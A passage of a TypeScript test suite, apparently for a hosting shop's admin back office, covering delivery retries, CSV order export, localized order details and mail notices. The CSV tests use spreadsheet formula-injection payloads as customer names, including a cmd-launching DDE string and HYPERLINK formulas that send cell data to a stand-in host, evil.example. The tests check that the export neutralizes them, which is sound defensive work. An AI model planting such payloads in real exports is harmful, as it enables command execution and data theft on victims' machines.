    translated('api.admin.deliveriesBeingSent');
    const [same] = await own.db.select().from(mailOutbox).where(eq(mailOutbox.id, sending.id));
    expect(same?.nextAttemptAt.getTime()).toBe(sending.nextAttemptAt.getTime());
    expect((await post('/api/admin/deliveries/mail-2147483000/retry', as.support)).status).toBe(404);
    expect((await post('/api/admin/deliveries/sms-1/retry', as.support)).status).toBe(422);
  });

  it('retries a failed webhook event, delivered once by two workers at once', async () => {
    const who = await customer();
    const order = await insertOrder(who.user.id);
    const [hook] = await own.db
      .insert(webhookOutbox)
      .values({
        type: 'order.created',
        orderId: order.id,
        payload: { n: 1 },
        attempts: 4,
        lastError: 'HTTP 503',
        nextAttemptAt: new Date(Date.now() + 3_600_000),
      })
      .returning();
    const id = hook?.id ?? 0;
    const list = (await get('/api/admin/deliveries?kind=webhook&state=failed&rows=100', as.support)).json
      .message as ListAnswer<{ outboxId: number; orderNumber: string; type: string }>;
    expect(list.items.find((r) => r.outboxId === id)).toMatchObject({
      orderNumber: order.number,
      type: 'order.created',
    });
    expect((await post(`/api/admin/deliveries/webhook-${id}/retry`, as.support)).status).toBe(200);
    expect((await post(`/api/admin/deliveries/webhook-${id}/retry`, as.support)).status).toBe(200);

    const received: string[] = [];
    const { createServer } = await import('node:http');
    const server = createServer((req, res) => {
      received.push(String(req.headers['cirrus-event-id']));
      setTimeout(() => res.end('ok'), 20);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as { port: number }).port;
    const target = { url: `http://127.0.0.1:${port}/hook`, secret: 'test-secret' };
    const later = new Date(Date.now() + 2_000);
    try {
      await Promise.all([
        deliverDueWebhooks(own.db, target, later, 500),
        deliverDueWebhooks(own.db, target, later, 500),
      ]);
    } finally {
      server.close();
    }
    expect(received.filter((e) => e === hook?.eventId)).toHaveLength(1);
    const refused = await post(`/api/admin/deliveries/webhook-${id}/retry`, as.support);
    expect(refused.status).toBe(409);
    expect(refused.json.message).toBe('api.admin.deliveriesAlreadySent');
  });
});

describe('the CSV export', () => {
  it('streams the filtered orders with a header, amounts in the major unit, hostile names defused', async () => {
    const who = await customer();
    const tag = `${Date.now()}`;
    await own.db
      .update(users)
      .set({ username: `=cmd|' /C calc'!A0,"x"${tag}` })
      .where(eq(users.id, who.user.id));
    const usd = await insertOrder(who.user.id, { totalMinor: 123456, subtotalMinor: 123456 });
    const jpy = await insertOrder(who.user.id, { currency: 'JPY', totalMinor: 9800, subtotalMinor: 9800 });
    const res = await get(`/api/admin/orders/export?customer=${who.user.id}`, as.manager);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="orders-\d{4}-\d{2}-\d{2}\.csv"$/);
    const lines = res.text.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]).toBe(
      '"number","status","customer_id","customer_email","customer_username","product","currency","subtotal","discount","total","created_at","paid_at"',
    );
    expect(lines).toHaveLength(4);
    expect(lines[lines.length - 1]).toBe('');
    const byNumber = (n: string) => lines.find((l) => l.startsWith(`"${n}",`)) ?? '';
    expect(byNumber(usd.number)).toContain(`,"'=cmd|' /C calc'!A0,""x""${tag}",`);
    expect(byNumber(usd.number)).toContain(',"USD","1234.56","0.00","1234.56",');
    expect(byNumber(jpy.number)).toContain(',"JPY","9800","0","9800",');
  });

  // What a spreadsheet runs once it skips what comes first or folds full-width forms: each name arrives as text.
  it.each([
    [' =1+2', 'a space first'],
    ['\n=HYPERLINK("http://evil.example/?"&A1)', 'a line break first'],
    ['\uFF1DHYPERLINK("http://evil.example")', 'a full-width equals sign'],
    ['\uFF0B1', 'a full-width plus'],
    ['\uFF0D1', 'a full-width minus'],
    ['\uFF20SUM(A1)', 'a full-width at'],
    ['x;=1+2', 'a semicolon, the separator in many languages'],
  ])('writes a customer named %j (%s) as text', async (name) => {
    const who = await customer();
    await own.db.update(users).set({ username: name }).where(eq(users.id, who.user.id));
    const order = await insertOrder(who.user.id);
    const res = await get(`/api/admin/orders/export?customer=${who.user.id}`, as.manager);
    expect(res.status).toBe(200);
    const body = res.text.replace(/^\uFEFF/, '');
    const row = body.slice(body.indexOf(`"${order.number}",`));
    const quoted = name.replace(/"/g, '""');
    const expected = name.startsWith('x;') ? `,"${quoted}",` : `,"'${quoted}",`;
    expect(row).toContain(expected);
  });

  it('refuses a bad filter before the download starts', async () => {
    const res = await get('/api/admin/orders/export?state=lost', as.manager);
    expect(res.status).toBe(422);
  });

  it('exports past one batch without losing or repeating an order', async () => {
    const who = await customer();
    const values = Array.from({ length: 1_500 }, (_, i) => ({
      number: `CX${who.user.id}-${i}`,
      userId: who.user.id,
      idempotencyKey: `k${i}`,
      kind: 'vps' as const,
      payBy: new Date(),
      currency: 'USD',
      rate: '1',
      subtotalMinor: 100,
      discountMinor: 0,
      totalMinor: 100,
      config: {},
      lines: [],
      // Many orders at the same instant: the cursor's id breaks the ties.
      createdAt: new Date(Date.now() - (i % 3) * 1000),
    }));
    await own.db.insert(orders).values(values);
    const res = await get(`/api/admin/orders/export?customer=${who.user.id}`, as.support);
    const numbers = res.text
      .split('\r\n')
      .slice(1)
      .filter(Boolean)
      .map((l) => l.split(',')[0]?.replaceAll('"', ''));
    expect(numbers).toHaveLength(1_500);
    expect(new Set(numbers).size).toBe(1_500);
    const ids = await own.db
      .select({ n: orders.number })
      .from(orders)
      .where(inArray(orders.userId, [who.user.id]));
    expect(ids).toHaveLength(1_500);
  });
});

describe('what the order and customer pages name', () => {
  it('names each line, the plan and the holds in every language, and says each event by its code', async () => {
    const buyer = await customer('ja');
    const saleId = await saleItem(5);
    const couponId = await heldCoupon(buyer);
    const order = await insertOrder(buyer.user.id, {
      saleItemId: saleId,
      userCouponId: couponId,
      config: {
        planId: 'std-1c1g',
        regionId: 'tokyo',
        imageId: 'windows-2022',
        quantity: 1,
        months: 12,
        dataDisks: [{ diskId: 'disk-nvme', sizeGb: 50 }],
      },
      lines: [
        { key: 'sale', itemId: String(saleId), quantity: 1, months: 12, unitMinor: 3000, amountMinor: 3000 },
        { key: 'disk.0', itemId: 'disk-nvme', quantity: 1, months: 12, unitMinor: 500, amountMinor: 6000 },
        { key: 'bandwidth', itemId: 'bw-300', quantity: 1, months: 12, unitMinor: 600, amountMinor: 7200 },
        { key: 'traffic', itemId: 'traffic-1t', quantity: 1, months: 12, unitMinor: 500, amountMinor: 6000 },
        { key: 'snapshot', itemId: 'weekly-4', quantity: 1, months: 12, unitMinor: 0, amountMinor: 0 },
        { key: 'term', itemId: '15', quantity: 1, months: 12, unitMinor: -2880, amountMinor: -2880 },
        { key: 'licence', itemId: 'windows-2022', quantity: 1, months: 12, unitMinor: 800, amountMinor: 9600 },
      ],
    });
    await own.db.insert(orderEvents).values([
      { orderId: order.id, fromStatus: null, toStatus: 'pending_payment', reason: 'created', actor: 'customer' },
      {
        orderId: order.id,
        fromStatus: 'pending_payment',
        toStatus: 'cancelled',
        reason: 'cancelled by an operator: asked by phone',
        actor: 'operator',
      },
      {
        orderId: order.id,
        fromStatus: 'cancelled',
        toStatus: 'refund_pending',
        reason: 'paid after the order was cancelled',
        actor: 'payment',
      },
      { orderId: order.id, fromStatus: 'refund_pending', toStatus: 'refunded', reason: 'a note', actor: 'system' },
    ]);

    const d = (await get(`/api/admin/orders/${order.id}`, as.support)).json.message as {
      productName: Record<string, string>;
      saleItemName: Record<string, string> | null;
      couponName: Record<string, string> | null;
      lines: { key: string; name: Record<string, string> | null }[];
      events: { reason: string; reasonKey: string | null; reasonState: string | null; reasonNote: string | null }[];
    };
    // In Japanese where the thing has a Japanese name (the sale made here has only English).
    const named = Object.fromEntries(d.lines.map((l) => [l.key, l.name?.ja ?? l.name?.en ?? null]));
    expect(named).toEqual({
      sale: 'Back-office sale',
      'disk.0': 'NVMe SSD ボリューム 50 GB',
      bandwidth: '300 Mbps',
      traffic: '1000 GB',
      snapshot: '週次スナップショット',
      term: null,
      licence: 'Windows Server 2022 Datacenter',
    });
    expect(d.productName.ja).toBe('スタンダード 1vCPU / 1GB');
    expect(d.saleItemName?.en).toBe('Back-office sale');
    expect(d.couponName?.en).toBe('Back-office coupon');
    // What happened is a code the screen words in the reader's language; an operator's note stays as typed, and a
    // reason the site does not know is shown as written.
    expect(d.events.map((e) => [e.reasonKey, e.reasonState, e.reasonNote])).toEqual([
      ['created', null, null],
      ['cancelledByOperator', null, 'asked by phone'],
      ['paidAfterEnd', 'cancelled', null],
      [null, null, null],
    ]);
    for (const key of ['created', 'cancelledByOperator', 'paidAfterEnd']) {
      for (const messages of [en, zh, ja]) {
        expect(
          (messages.admin.orders as unknown as { reasons: Record<string, string> }).reasons[key],
          key,
        ).toBeTruthy();
      }
    }

    // The list names the plan too.
    const list = (await get(`/api/admin/orders?customer=${buyer.user.id}`, as.support)).json.message as ListAnswer<{
      product: string;
      productName: Record<string, string> | null;
    }>;
    expect(list.items[0]).toMatchObject({ product: 'std-1c1g', productName: { ja: 'スタンダード 1vCPU / 1GB' } });
  });

  it("answers a customer's coupons and group-buys in every language, for the screen to choose", async () => {
    const member = await customer('zh');
    await heldCoupon(member);
    const [offer] = await own.db
      .insert(pintuanOffers)
      .values({
        name: { en: 'Tokyo trio', zh: '东京三人团', ja: '東京 3 人グループ' },
        planId: 'std-1c1g',
        regionId: 'tokyo',
        months: 12,
        groupSize: 3,
        groupPriceCents: 3000,
        groupHours: 48,
        startsAt: new Date(Date.now() - DAY),
        endsAt: new Date(Date.now() + DAY),
      })
      .returning();
    const order = await insertOrder(member.user.id);
    const [group] = await own.db
      .insert(pintuanGroups)
      .values({ offerId: offer?.id ?? 0, leaderUserId: member.user.id, size: 3, expiresAt: new Date(Date.now() + DAY) })
      .returning();
    await own.db
      .insert(pintuanMembers)
      .values({ groupId: group?.id ?? 0, userId: member.user.id, orderId: order.id, leader: true });
    const detail = (await get(`/api/admin/customers/${member.user.id}`, as.manager)).json.message as {
      coupons: { name: Record<string, string> }[];
      groupBuys: { offer: Record<string, string> }[];
    };
    expect(detail.groupBuys[0]?.offer).toEqual({ en: 'Tokyo trio', zh: '东京三人团', ja: '東京 3 人グループ' });
    expect(detail.coupons[0]?.name).toMatchObject({ en: 'Back-office coupon' });
  });
});

describe('when mail is not being sent', () => {
  // The tests run without SMTP_URL, as a new install does: mail waits in the outbox.
  it('says so on the dashboard and the deliveries list, with how many mails wait', async () => {
    await mailRow({ subject: 'waiting without a transport' });
    const [{ n } = { n: 0 }] = (
      await own.db.execute<{ n: number }>(sql`select count(*)::int as n from mail_outbox where status = 'pending'`)
    ).rows;
    const notice = { key: 'mailNotSent', values: { waiting: n } };
    const period = 'from=2024-03-01&to=2024-03-02';
    const dashboard = await get(`/api/admin/dashboard?${period}`, as.support);
    expect(dashboard.json.message).toMatchObject({ notices: [notice] });
    const deliveries = await get('/api/admin/deliveries?kind=mail', as.support);
    expect(deliveries.json.message).toMatchObject({ notices: [notice] });
    // An editor has no deliveries to look after: their dashboard says nothing of it.
    const editor = await get(`/api/admin/dashboard?${period}`, as.editor);
    expect(editor.json.message).toMatchObject({ notices: [] });
    for (const messages of [en, zh, ja]) {
      expect((messages.admin as unknown as { notices: Record<string, string> }).notices.mailNotSent).toBeTruthy();
    }
  });

  it('says nothing once SMTP_URL is set', async () => {
    const { operatorNotices } = await import('../../src/server/admin/notices');
    expect(await operatorNotices(own.db, 'owner', { smtpUrl: 'smtp://mail.example.net:587' })).toEqual([]);
    expect(await operatorNotices(own.db, 'owner', { smtpUrl: undefined })).toMatchObject([{ key: 'mailNotSent' }]);
  });
});
